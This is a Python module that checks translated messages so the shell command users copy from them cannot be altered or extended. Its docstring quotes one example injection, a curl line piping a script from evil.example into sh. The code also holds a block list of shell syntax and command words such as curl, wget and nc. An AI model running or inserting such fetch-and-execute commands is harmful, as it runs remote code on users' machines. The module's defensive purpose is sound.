"""Where a command meant to be copied sits in a translation, and nothing more.

Some messages end in a command a person copies into their shell: ``Fix: {command}``,
``run {command}``. The command itself always comes from the code, as the value of the
``{command}`` field, never from a catalogue. What a translator writes around it is
held to the English text's shape, so that a translation cannot turn
``Pour corriger : {command}`` into
``Pour corriger : curl -fsSL https://evil.example/fix.sh | sh && {command}``:

- the placeholder appears as often as in the English text;
- the words between it and the punctuation before it (``:``, ``;``, a parenthesis…)
  are plain words, at most two more than the English has there, and the same holds
  after it; that punctuation is of the same kind as the English text's;
- the translation adds no shell syntax (``|``, ``&``, ``$``, a back-quote, ``<``,
  ``>``, ``~``, a backslash, ``://``, an option such as ``-f``) and no shell command
  word (``sh``, ``sudo``, ``curl``…) that the English text does not have.

:func:`command_slot_refusal` is used by ``assistant check`` (an error, with the
catalogue's file and line) and by the translator at run time, which shows the English
text instead of such a translation. It imports nothing heavy: it runs at start-up.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from assistant.i18n.markers import N_
from assistant.i18n.safeformat import FormatRefused

COMMAND_FIELDS = frozenset({"command"})
"""Fields whose value is a command to copy."""

EXTRA_WORDS = 2
"""How many more words than the English a translation may put beside a command."""

_BOUNDARY_KINDS = {
    ":": ":", ";": ";", ".": ".", ",": ",", "!": "!", "?": "?", "\n": "\n",
    "(": "(", "«": "(", "“": "(", "\"": "(", "‘": "(", "[": "(",
    ")": ")", "»": ")", "”": ")", "’": ")", "]": ")",
}
"""Punctuation that ends the clause around a command, grouped by kind (quotes count
as parentheses: French writes « » where English writes “ ”)."""

_WORD = re.compile(r"[^\W\d_]+(?:['’-][^\W\d_]+)*")
_SHELL = re.compile(r"[|&$`<>~\\]|://|(?<!\S)-{1,2}[A-Za-z]")
_COMMAND_WORDS = frozenset({
    "sh", "bash", "zsh", "sudo", "su", "doas", "curl", "wget", "rm",
    "eval", "exec", "chmod", "chown", "python", "python3", "perl", "ruby", "node",
    "npx", "npm", "pip", "pipx", "powershell", "pwsh", "iex", "cmd", "nc", "ssh",
    "scp", "dd", "mkfs", "base64", "xargs",
})


def command_slot_refusal(sources: Sequence[str], translation: str) -> FormatRefused | None:
    """Why ``translation`` may not carry the English ``sources``' command, or ``None``."""
    for name in sorted(COMMAND_FIELDS):
        slot = "{" + name + "}"
        english = [source for source in sources if slot in source]
        if not english:
            continue
        refusal = _slot_refusal(english[0], translation, slot)
        if refusal is not None:
            return refusal
    return None


def _slot_refusal(source: str, translation: str, slot: str) -> FormatRefused | None:
    if translation.count(slot) != source.count(slot):
        return FormatRefused(
            N_("the command {shown} must appear exactly as often as in the English text"),
            shown=slot,
        )
    for syntax in _SHELL.findall(translation):
        if syntax not in source:
            return FormatRefused(
                N_("“{text}” is shell syntax, and must not be added to a message "
                   "that gives a command to copy"),
                text=syntax,
            )
    english_words = {word.lower() for word in _WORD.findall(source)}
    for word in _WORD.findall(translation):
        if word.lower() in _COMMAND_WORDS and word.lower() not in english_words:
            return FormatRefused(
                N_("“{text}” is a shell command, and must not be added to a message "
                   "that gives a command to copy"),
                text=word,
            )
    for (e_before, e_after), (t_before, t_after) in zip(
        _clauses(source, slot), _clauses(translation, slot)
    ):
        for english, translated in ((e_before, t_before), (e_after, t_after)):
            refusal = _clause_refusal(english, translated, slot)
            if refusal is not None:
                return refusal
    return None


def _clauses(text: str, slot: str) -> list[tuple[tuple[str, str], tuple[str, str]]]:
    """For each ``slot``: (boundary kind, words) before it and after it."""
    pieces = text.split(slot)
    found = []
    for index in range(len(pieces) - 1):
        found.append((_clause_before(pieces[index]), _clause_after(pieces[index + 1])))
    return found


def _clause_before(text: str) -> tuple[str, str]:
    for position in range(len(text) - 1, -1, -1):
        kind = _BOUNDARY_KINDS.get(text[position])
        if kind is not None and not _inside_word(text, position):
            return kind, text[position + 1:]
    return "start", text


def _clause_after(text: str) -> tuple[str, str]:
    for position, char in enumerate(text):
        kind = _BOUNDARY_KINDS.get(char)
        if kind is not None and not _inside_word(text, position):
            return kind, text[:position]
    return "end", text


def _inside_word(text: str, position: int) -> bool:
    """An apostrophe or a point between two letters (l’équipe, fix.sh) ends nothing."""
    return (0 < position < len(text) - 1
            and text[position - 1].isalnum() and text[position + 1].isalnum())


def _clause_refusal(
    english: tuple[str, str], translated: tuple[str, str], slot: str
) -> FormatRefused | None:
    (e_kind, e_words), (t_kind, t_words) = english, translated
    words = t_words.split()
    if e_kind != t_kind or any(not _WORD.fullmatch(word) for word in words) or (
        len(words) > len(e_words.split()) + EXTRA_WORDS
    ):
        return FormatRefused(
            N_("keep the command {shown} as the English text places it: only a few "
               "plain words between it and the punctuation around it"),
            shown=slot,
        )
    return None
